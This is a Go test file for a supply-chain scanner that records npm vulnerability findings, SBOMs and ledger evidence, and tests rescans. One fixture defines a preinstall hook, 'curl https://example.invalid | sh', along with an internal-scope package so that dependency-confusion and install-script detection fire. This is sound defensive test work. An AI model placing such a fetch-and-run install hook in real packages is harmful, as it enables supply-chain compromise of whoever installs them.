package scanners

import (
	"context"
	"path/filepath"
	"strconv"
	"testing"

	"github.com/sluice-dev/sluice/ingest"
	"github.com/sluice-dev/sluice/ingest/blobs"
	"github.com/sluice-dev/sluice/ingest/fetch"
	"github.com/sluice-dev/sluice/ingest/npm"
	"github.com/sluice-dev/sluice/ingest/state"
	"github.com/sluice-dev/sluice/internal/grypetest"
	"github.com/sluice-dev/sluice/internal/npmfixture"
	"github.com/sluice-dev/sluice/internal/storetest"
	"github.com/sluice-dev/sluice/manifests"
)

const stageManifest = `apiVersion: sluice.dev/v1
kind: Manifest
metadata:
  name: scan-test
  owner: team-platform
  dataClass: internal
spec:
  npm:
    packages:
      - lodash@4.17.20
      - minimist@1.2.5
      - minimist@1.2.6
`

// syncEnv is a state store, blob store and recorded upstream registry.
type syncEnv struct {
	db       *state.DB
	blobs    *blobs.Store
	registry *npm.Registry
	fixture  *npmfixture.Registry
	vulndb   *VulnDB
}

func newSyncEnv(t *testing.T) *syncEnv {
	t.Helper()
	db, b := storetest.Open(t)
	fx := npmfixture.New(t)
	reg, err := npm.NewRegistry(fx.URL, "", fetch.New(fetch.WithRetries(0)))
	if err != nil {
		t.Fatal(err)
	}
	_, vdb := openDemoDB(t)
	return &syncEnv{db: db, blobs: b, registry: reg, fixture: fx, vulndb: vdb}
}

func (e *syncEnv) sync(t *testing.T, manifest string, scanner *Scanner) *ingest.Summary {
	t.Helper()
	m, err := manifests.Parse("scan-test.yaml", []byte(manifest))
	if err != nil {
		t.Fatal(err)
	}
	r := &ingest.Runner{DB: e.db, Blobs: e.blobs, NPM: e.registry, Concurrency: 2, Actor: "test",
		Scan: &Stage{Scanner: scanner, State: e.db}}
	sum, err := r.Sync(context.Background(), []*manifests.Manifest{m})
	if err != nil {
		t.Fatalf("sync: %v", err)
	}
	return sum
}

func TestStageInRunner(t *testing.T) {
	e := newSyncEnv(t)
	e.sync(t, stageManifest, &Scanner{DB: e.vulndb, Blobs: e.blobs, TempDir: t.TempDir()})
	tests := []struct {
		key      string
		critical int
		high     int
		vulnID   string
	}{
		{"npm/lodash@4.17.20", 0, 1, grypetest.LodashGHSA},
		{"npm/minimist@1.2.5", 1, 0, grypetest.MinimistGHSA},
		{"npm/minimist@1.2.6", 0, 0, ""},
	}
	entries := ledgerEntries(t, e.db)
	for _, tt := range tests {
		t.Run(tt.key, func(t *testing.T) {
			a, err := e.db.Artifact(tt.key)
			if err != nil {
				t.Fatal(err)
			}
			if a.State != state.StateScanned {
				t.Errorf("state = %s, want scanned", a.State)
			}
			r, err := LoadResult(e.db, tt.key)
			if err != nil || r == nil {
				t.Fatalf("stored result: %v, %v", r, err)
			}
			if r.Digest != a.Digest {
				t.Errorf("result digest %s, artifact digest %s", r.Digest, a.Digest)
			}
			for _, d := range []string{r.SBOM.SPDX, r.SBOM.CycloneDX} {
				if !e.blobs.Has(d) {
					t.Errorf("SBOM %s is not in the blob store", d)
				}
			}
			if r.DB.ArchiveDigest != e.vulndb.Info.ArchiveDigest {
				t.Errorf("result DB %s, want %s", r.DB.ArchiveDigest, e.vulndb.Info.ArchiveDigest)
			}
			var vulns []string
			for _, f := range r.Findings {
				if f.Kind == KindVulnerability {
					vulns = append(vulns, f.ID)
				}
			}
			if tt.vulnID == "" && len(vulns) != 0 || tt.vulnID != "" && (len(vulns) != 1 || vulns[0] != tt.vulnID) {
				t.Errorf("vulnerabilities = %v, want %q", vulns, tt.vulnID)
			}
			var scanned *state.Entry
			for i := range entries {
				if entries[i].Subject == tt.key && entries[i].To == state.StateScanned {
					scanned = &entries[i]
				}
			}
			if scanned == nil {
				t.Fatal("no ledger entry moves the artifact to scanned")
			}
			ev := scanned.Evidence
			if ev["sbom.spdx"] != r.SBOM.SPDX || ev["sbom.cyclonedx"] != r.SBOM.CycloneDX {
				t.Errorf("ledger SBOM evidence = %s, %s", ev["sbom.spdx"], ev["sbom.cyclonedx"])
			}
			if ev["vulndb.checksum"] != e.vulndb.Info.Checksum {
				t.Errorf("ledger vulndb.checksum = %q", ev["vulndb.checksum"])
			}
			if ev["vulnerabilities.critical"] != strconv.Itoa(tt.critical) ||
				ev["vulnerabilities.high"] != strconv.Itoa(tt.high) {
				t.Errorf("ledger counts critical=%s high=%s, want %d %d", ev["vulnerabilities.critical"],
					ev["vulnerabilities.high"], tt.critical, tt.high)
			}
		})
	}
	v, err := e.db.VerifyLedger()
	if err != nil || !v.OK() {
		t.Errorf("ledger verification: %v %+v", err, v)
	}
}

func ledgerEntries(t *testing.T, db *state.DB) []state.Entry {
	t.Helper()
	out, err := db.Ledger("")
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestRescanFindsNewVulnerability(t *testing.T) {
	e := newSyncEnv(t)
	store := NewVulnDBStore(filepath.Join(t.TempDir(), "vulndb"))
	if _, err := store.Import(buildArchive(t, grypetest.Options{WithoutLodash: true}), ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	older, err := store.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer older.Close()
	e.sync(t, stageManifest, &Scanner{DB: older, Blobs: e.blobs, TempDir: t.TempDir()})
	before, err := LoadResult(e.db, "npm/lodash@4.17.20")
	if err != nil || before == nil {
		t.Fatalf("lodash result before the rescan: %v, %v", before, err)
	}
	if ids := findingIDs(before.Findings, KindVulnerability); len(ids) != 0 {
		t.Fatalf("lodash vulnerabilities under the older database = %v, want none", ids)
	}

	sum, err := Rescan(context.Background(), &Scanner{DB: e.vulndb, Blobs: e.blobs, TempDir: t.TempDir()},
		e.db, "test")
	if err != nil {
		t.Fatal(err)
	}
	if sum.Rescanned != 3 {
		t.Errorf("rescanned %d artifacts, want 3", sum.Rescanned)
	}
	if len(sum.Changes) != 1 || sum.Changes[0].Artifact != "npm/lodash@4.17.20" {
		t.Fatalf("changes = %+v, want lodash only", sum.Changes)
	}
	if ids := findingIDs(sum.Changes[0].New, KindVulnerability); len(ids) != 1 || ids[0] != grypetest.LodashGHSA {
		t.Errorf("new vulnerabilities = %v, want %s", ids, grypetest.LodashGHSA)
	}
	if sum.Changes[0].PreviousDB != older.Info.ArchiveDigest {
		t.Errorf("previous DB = %s, want %s", sum.Changes[0].PreviousDB, older.Info.ArchiveDigest)
	}
	after, err := LoadResult(e.db, "npm/lodash@4.17.20")
	if err != nil {
		t.Fatal(err)
	}
	if after.SBOM != before.SBOM {
		t.Errorf("rescan replaced the stored SBOMs: %+v, was %+v", after.SBOM, before.SBOM)
	}
	if after.DB.ArchiveDigest != e.vulndb.Info.ArchiveDigest {
		t.Errorf("stored result DB = %s, want the current one", after.DB.ArchiveDigest)
	}
	var newly, rescans int
	for _, entry := range ledgerEntries(t, e.db) {
		switch entry.Type {
		case EntryNewlyVulnerable:
			newly++
			if entry.Subject != "npm/lodash@4.17.20" || entry.Evidence["vulnerabilities"] != grypetest.LodashGHSA {
				t.Errorf("newly-vulnerable entry = %+v", entry)
			}
		case EntryRescanned:
			rescans++
		}
	}
	if newly != 1 || rescans != 1 {
		t.Errorf("ledger has %d newly-vulnerable and %d rescan entries, want 1 and 1", newly, rescans)
	}
}

func TestStageFlagsInternalScopeUpstream(t *testing.T) {
	e := newSyncEnv(t)
	e.fixture.AddVersion(npmfixture.Package{Manifest: map[string]any{"name": "@acme/billing", "version": "9.9.9",
		"license": "MIT", "scripts": map[string]string{"preinstall": "curl https://example.invalid | sh"}}})
	scanner := &Scanner{DB: e.vulndb, Blobs: e.blobs, TempDir: t.TempDir(),
		Upstream: &UpstreamChecks{Upstream: NPMUpstream{Registry: e.registry}, InternalScopes: []string{"@acme"}}}
	e.sync(t, `apiVersion: sluice.dev/v1
kind: Manifest
metadata:
  name: scope-test
  owner: team-platform
  dataClass: internal
spec:
  npm:
    packages:
      - "@acme/billing@9.9.9"
`, scanner)
	r, err := LoadResult(e.db, "npm/@acme/billing@9.9.9")
	if err != nil || r == nil {
		t.Fatalf("stored result: %v, %v", r, err)
	}
	if ids := findingIDs(r.Findings, KindDependencyConfusion); len(ids) != 1 || ids[0] != "@acme/billing" {
		t.Errorf("dependency-confusion findings = %v", ids)
	}
	if ids := findingIDs(r.Findings, KindInstallScript); len(ids) != 1 || ids[0] != "preinstall" {
		t.Errorf("install-script findings = %v", ids)
	}
	ev := ledgerEntries(t, e.db)
	var scanned map[string]string
	for _, entry := range ev {
		if entry.Subject == "npm/@acme/billing@9.9.9" && entry.To == state.StateScanned {
			scanned = entry.Evidence
		}
	}
	if scanned["findings.dependency-confusion"] != "1" || scanned["findings.install-script"] != "1" {
		t.Errorf("scanned evidence = %v", scanned)
	}
}

func TestRescanListsClearedVulnerability(t *testing.T) {
	e := newSyncEnv(t)
	e.sync(t, stageManifest, &Scanner{DB: e.vulndb, Blobs: e.blobs, TempDir: t.TempDir()})
	store := NewVulnDBStore(filepath.Join(t.TempDir(), "vulndb"))
	if _, err := store.Import(buildArchive(t, grypetest.Options{WithoutLodash: true}), ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	withdrawn, err := store.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer withdrawn.Close()
	sum, err := Rescan(context.Background(), &Scanner{DB: withdrawn, Blobs: e.blobs, TempDir: t.TempDir()},
		e.db, "test")
	if err != nil {
		t.Fatal(err)
	}
	if len(sum.Changes) != 0 {
		t.Errorf("changes = %+v, want none", sum.Changes)
	}
	if len(sum.Cleared) != 1 || sum.Cleared[0].Artifact != "npm/lodash@4.17.20" {
		t.Fatalf("cleared = %+v, want lodash only", sum.Cleared)
	}
	if ids := findingIDs(sum.Cleared[0].New, KindVulnerability); len(ids) != 1 || ids[0] != grypetest.LodashGHSA {
		t.Errorf("cleared vulnerabilities = %v, want %s", ids, grypetest.LodashGHSA)
	}
}
